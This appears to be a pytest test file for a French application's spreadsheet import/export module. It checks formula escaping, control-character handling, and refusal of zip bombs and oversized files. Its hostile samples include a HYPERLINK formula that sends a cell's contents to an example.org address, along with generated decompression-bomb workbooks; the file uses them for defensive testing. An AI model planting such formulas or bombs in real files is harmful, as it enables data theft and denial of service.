"""common.tabular: what every import reads and every export writes.

Exports never hand a spreadsheet a live formula (text typed by the public may start with "=") and
never fail on a stored control character. Imports refuse, in French and by line and column, what
would crash later (control characters, undecodable bytes), and refuse hostile files (zip bombs,
millions of rows) before reading them.
"""

import csv
import datetime as dt
import io
import re
import time
import zipfile
from decimal import Decimal

import openpyxl
import pytest
from hypothesis import given
from hypothesis import settings as examples
from hypothesis import strategies as st

from qualipilote.common.tabular import (
    Column,
    ImportRejected,
    csv_response,
    parse_decimal,
    parse_int,
    read_table,
    xlsx_bytes,
)

from . import hostile_files

HOSTILE_TEXTS = [
    '=HYPERLINK("https://example.org/vol?c="&A1;"Cliquez ici")',
    "+33 6 12 34 56 78",
    "-1+2",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    " =1+1",
]
COLUMNS = [Column("valeur", lambda row: row)]


def csv_cells(rows) -> list[str]:
    response = csv_response("export", COLUMNS, rows)
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    return [cells[0] for cells in csv.reader(io.StringIO(text), delimiter=";")][1:]


def xlsx_cells(rows) -> list[openpyxl.cell.Cell]:
    raw = xlsx_bytes([("Feuille", COLUMNS, rows)])
    sheet = openpyxl.load_workbook(io.BytesIO(raw)).active
    return [row[0] for row in sheet.iter_rows(min_row=2)]


# --- Exports: no formula from text --------------------------------------------------------------


def test_text_that_looks_like_a_formula_is_a_string_cell_in_xlsx_exports():
    cells = xlsx_cells([*HOSTILE_TEXTS, "#N/A", "=1"])
    # A carriage return reads back as a line feed or as itself, depending on the XML parser
    # openpyxl finds (lxml keeps it): compare with both folded.
    expected = [text.replace("\r", "\n") for text in [*HOSTILE_TEXTS, "#N/A", "=1"]]
    assert [cell.value.replace("\r", "\n") for cell in cells] == expected
    assert {cell.data_type for cell in cells} == {"s"}


def test_text_that_looks_like_a_formula_is_escaped_in_csv_exports():
    assert csv_cells(HOSTILE_TEXTS) == ["'" + text for text in HOSTILE_TEXTS]


def test_ordinary_text_is_left_as_it_is():
    texts = ["Accueil", "Délai d'attente", "'déjà cité'", "a=b", "1-2", ""]
    assert csv_cells(texts) == texts
    assert [cell.value or "" for cell in xlsx_cells(texts)] == texts


def test_numbers_and_dates_stay_numbers_and_dates():
    values = [-3, Decimal("-2.50"), -0.5, 12, dt.date(2026, 2, 16), True]
    assert csv_cells(values) == ["-3", "-2,50", "-0,5", "12", "16/02/2026", "oui"]
    cells = xlsx_cells(values)
    assert [cell.data_type for cell in cells] == ["n", "n", "n", "n", "d", "s"]
    assert [cell.value for cell in cells[:4]] == [-3, -2.5, -0.5, 12]


# --- Exports: a stored control character never breaks them --------------------------------------


@pytest.mark.parametrize("char", ["\x00", "\x0b", "\x1b", "\x7f", "\x85"])
def test_a_stored_control_character_does_not_break_the_exports(char):
    text = f"avant{char}après"
    assert csv_cells([text]) == ["avant\ufffdaprès"]
    assert xlsx_cells([text])[0].value == "avant\ufffdaprès"


def test_ordinary_line_breaks_and_tabs_are_kept_in_exports():
    text = "ligne 1\nligne 2\tfin"
    assert csv_cells([text]) == [text]
    assert xlsx_cells([text])[0].value == text


# --- Imports: control characters -----------------------------------------------------------------


def errors_of(raw: bytes, filename: str) -> list[str]:
    with pytest.raises(ImportRejected) as rejected:
        read_table(raw, filename)
    return [str(error) for error in rejected.value.errors]


CONTROL = "contient un caractère de contrôle invisible (U+{:04X}) : retirez-le ou retapez le texte."


def test_a_csv_cell_with_a_control_character_is_refused_at_its_line_and_column():
    raw = b"recu_le;objet\n16/02/2026;Titre\n17/02/2026;Ti\x00tre\n18/02/2026;\x0bB\n"
    assert errors_of(raw, "registre.csv") == [
        "Ligne 3, colonne « objet » : " + CONTROL.format(0),
        "Ligne 4, colonne « objet » : " + CONTROL.format(0x0B),
    ]


def test_a_csv_header_with_a_control_character_is_refused():
    assert errors_of(b"recu_le;ob\x1bjet\n16/02/2026;Titre\n", "r.csv") == [
        "Ligne 1 : l'en-tête " + CONTROL.format(0x1B)
    ]


def test_an_xlsx_cell_with_a_control_character_is_refused_at_its_line_and_column():
    book = openpyxl.Workbook()
    book.active.append(["recu_le", "objet"])
    book.active.append(["16/02/2026", "Ti\x7ftre"])  # legal in XML, illegal for us
    buffer = io.BytesIO()
    book.save(buffer)
    assert errors_of(buffer.getvalue(), "r.xlsx") == [
        "Ligne 2, colonne « objet » : " + CONTROL.format(0x7F)
    ]


def test_an_xlsx_cell_that_breaks_xml_is_refused_in_french():
    raw = hostile_files.sheet_with_cell_xml('<c r="B2" t="inlineStr"><is><t>a&#x0B;b</t></is></c>')
    [error] = errors_of(raw, "r.xlsx")
    assert error.startswith("Ligne 1 : ce fichier n'est pas un classeur Excel (.xlsx) lisible")


# --- Imports: files that cannot be decoded or parsed --------------------------------------------


@pytest.mark.parametrize("byte", [b"\x81", b"\x8d", b"\x8f", b"\x90", b"\x9d"])
def test_a_csv_neither_utf8_nor_windows_1252_is_refused_in_french(byte):
    raw = b"recu_le;objet\n16/02/2026;Titre\n17/02/2026;Ti" + byte + b"tre\n"
    assert errors_of(raw, "r.csv") == [
        "Ligne 3 : le fichier n'est ni en UTF-8 ni en Windows-1252 (octet 0x"
        f"{byte.hex().upper()} illisible) : enregistrez-le au format « CSV UTF-8 »."
    ]


def test_a_csv_holding_only_a_byte_order_mark_is_empty():
    assert errors_of(b"\xef\xbb\xbf", "r.csv") == ["Ligne 1 : le fichier est vide."]


def test_a_csv_cell_longer_than_the_reader_accepts_is_refused_in_french():
    raw = b"recu_le;objet\n16/02/2026;" + b"x" * 200_000 + b"\n"
    [error] = errors_of(raw, "r.csv")
    assert error.startswith("Ligne 2 : ")
    assert "trop longue" in error


# --- Imports: hostile spreadsheets are refused before they are read ------------------------------


def refused_quickly(raw: bytes, filename: str = "piege.xlsx") -> str:
    """The single refusal of `raw`; the bound on time only guards against a hang (the figures
    come from `manage.py bench_hostile_files`)."""
    started = time.perf_counter()
    errors = errors_of(raw, filename)
    assert time.perf_counter() - started < 5
    [error] = errors
    return error


def test_a_part_declaring_300_mb_once_decompressed_is_refused():
    raw = hostile_files.declared_huge_shared_strings(300 * 1024 * 1024)
    assert refused_quickly(raw) == (
        "Ligne 1 : une fois décompressé, ce classeur ferait 300 Mo, au-delà des 150 Mo "
        "acceptés : enregistrez les données seules (sans mise en forme) ou découpez le fichier."
    )


def test_a_part_that_really_decompresses_to_much_more_than_it_weighs_is_refused():
    raw = hostile_files.huge_shared_string(megabytes=20)  # 20 MiB in about 20 kB
    assert "taux de compression anormal (1\u202f0" in refused_quickly(raw)  # about 1,000


def test_the_uncompressed_limit_comes_from_the_settings(settings):
    settings.IMPORT_XLSX_MAX_UNCOMPRESSED_BYTES = 10 * 1024 * 1024
    settings.IMPORT_XLSX_MAX_COMPRESSION_RATIO = 10_000
    assert "au-delà des 10 Mo acceptés" in refused_quickly(hostile_files.huge_shared_string(12))


def too_many_rows(limit: str) -> str:
    return (
        f"Ligne 1 : le fichier compte plus de {limit} lignes de données, la limite d'un "
        "import : découpez-le en plusieurs fichiers."
    )


def test_a_sheet_declaring_two_million_rows_is_refused():
    raw = hostile_files.sheet_with_rows(10, declared=2_000_000)
    assert refused_quickly(raw) == too_many_rows("200\u202f000")


def test_a_sheet_holding_more_rows_than_allowed_without_declaring_them_is_refused(settings):
    settings.IMPORT_MAX_ROWS = 1_000
    raw = hostile_files.sheet_with_rows(1_001)
    assert refused_quickly(raw) == too_many_rows("1\u202f000")


def test_a_sheet_whose_only_row_is_numbered_two_million_is_refused():
    raw = hostile_files.sheet_with_far_row(2_000_000)
    assert refused_quickly(raw) == too_many_rows("200\u202f000")


def test_a_csv_with_more_rows_than_allowed_is_refused(settings):
    settings.IMPORT_MAX_ROWS = 1_000
    raw = ("recu_le;canal\n" + "16/02/2026;courriel\n" * 1_001).encode()
    assert refused_quickly(raw, "r.csv") == too_many_rows("1\u202f000")


def test_a_sheet_at_the_row_limit_is_read(settings):
    settings.IMPORT_MAX_ROWS = 1_000
    table = read_table(hostile_files.sheet_with_rows(1_000, empty=False), "r.xlsx")
    assert len(table.rows) == 1_000


def test_an_archive_with_a_corrupted_part_is_refused_in_french():
    raw = bytearray(hostile_files.zipped(hostile_files.workbook_parts()))
    archive = zipfile.ZipFile(io.BytesIO(bytes(raw)))
    info = archive.getinfo(hostile_files.SHEET)
    data_start = info.header_offset + 30 + len(info.filename) + len(info.extra)
    raw[data_start + 10 : data_start + 20] = b"\x00" * 10
    assert "n'est pas un classeur Excel (.xlsx) lisible" in refused_quickly(bytes(raw))


# --- Cell parsers: numbers ---------------------------------------------------------------------


@pytest.mark.parametrize(
    "text", ["nan", "NaN", "inf", "-inf", "Infinity", "sNaN", float("nan"), float("inf")]
)
def test_a_number_that_is_not_finite_is_refused(text):
    with pytest.raises(ValueError, match="n'est pas un nombre"):
        parse_decimal(text)


def test_decimals_are_read_exactly_and_in_french():
    assert parse_decimal("0,1") == Decimal("0.1")
    assert parse_decimal("1\u202f234,5") == Decimal("1234.5")
    assert parse_decimal(0.1) == Decimal("0.1")
    assert parse_decimal(12) == Decimal(12)
    assert parse_decimal("") is None


def test_a_decimal_beyond_its_column_is_refused():
    with pytest.raises(ValueError) as error:
        parse_decimal("1e15", max_digits=16, decimal_places=2)
    assert str(error.value) == (
        "« 1e15 » doit être inférieur à 100\u202f000\u202f000\u202f000\u202f000 en valeur absolue."
    )
    assert parse_decimal("99999999999999.99", max_digits=16, decimal_places=2)
    with pytest.raises(ValueError, match="doit être inférieur à"):
        parse_decimal("1e400", max_digits=16, decimal_places=2)


def test_an_integer_beyond_its_column_is_refused():
    with pytest.raises(ValueError) as error:
        parse_int("40000", maximum=32767)
    assert str(error.value) == "« 40000 » doit être inférieur ou égal à 32\u202f767."
    assert parse_int("32767", maximum=32767) == 32767
    with pytest.raises(ValueError, match="n'est pas un nombre entier"):
        parse_int(float("inf"))


def test_sheet_titles_are_made_acceptable_to_excel():
    raw = xlsx_bytes([("Téléphonie : appels reçus et aboutis [2024]", COLUMNS, [1])])
    assert openpyxl.load_workbook(io.BytesIO(raw)).sheetnames == ["Téléphonie - appels reçus et ab"]


# --- Whatever the bytes, a French refusal or a table: never another exception (a 500) -----------

CSV_BYTES = st.binary(max_size=120) | st.lists(
    st.sampled_from([b"a", b";", b",", b"\t", b'"', b"\n", b"\r", b"\x00", b"\x0b", b"\x81",
                     b"\xc3\xa9", b"\xef\xbb\xbf", b" ", b"12", b"/"]),
    max_size=60,
).map(b"".join)  # fmt: skip


@examples(max_examples=300, deadline=None)
@given(raw=CSV_BYTES)
def test_any_csv_is_read_or_refused_in_french(raw):
    try:
        read_table(raw, "fichier.csv")
    except ImportRejected as rejected:
        assert all(error.message for error in rejected.errors)


@examples(max_examples=150, deadline=None)
@given(
    part=st.sampled_from(sorted(hostile_files.workbook_parts())),
    changes=st.lists(
        st.tuples(st.floats(0, 1, exclude_max=True), st.sampled_from(b'<>/"=&;#x09 \x00\x0b')),
        min_size=1,
        max_size=4,
    ),
)
def test_any_damaged_workbook_is_read_or_refused_in_french(part, changes):
    parts = hostile_files.workbook_parts()
    data = bytearray(parts[part])
    for where, byte in changes:
        data[int(where * len(data))] = byte
    parts[part] = bytes(data)
    try:
        read_table(hostile_files.zipped(parts), "classeur.xlsx")
    except ImportRejected as rejected:
        assert all(error.message for error in rejected.errors)


def test_a_workbook_whose_only_sheet_lost_its_id_is_refused_in_french():
    """openpyxl warns and drops such a sheet (found by the property test above): the import
    must answer in French, not let the warning or an IndexError through."""
    parts = hostile_files.workbook_parts()
    parts["xl/workbook.xml"] = re.sub(rb' r:id="[^"]*"', b' r:id=""', parts["xl/workbook.xml"])
    with pytest.raises(ImportRejected) as rejected:
        read_table(hostile_files.zipped(parts), "classeur.xlsx")
    assert "classeur" in rejected.value.errors[0].message
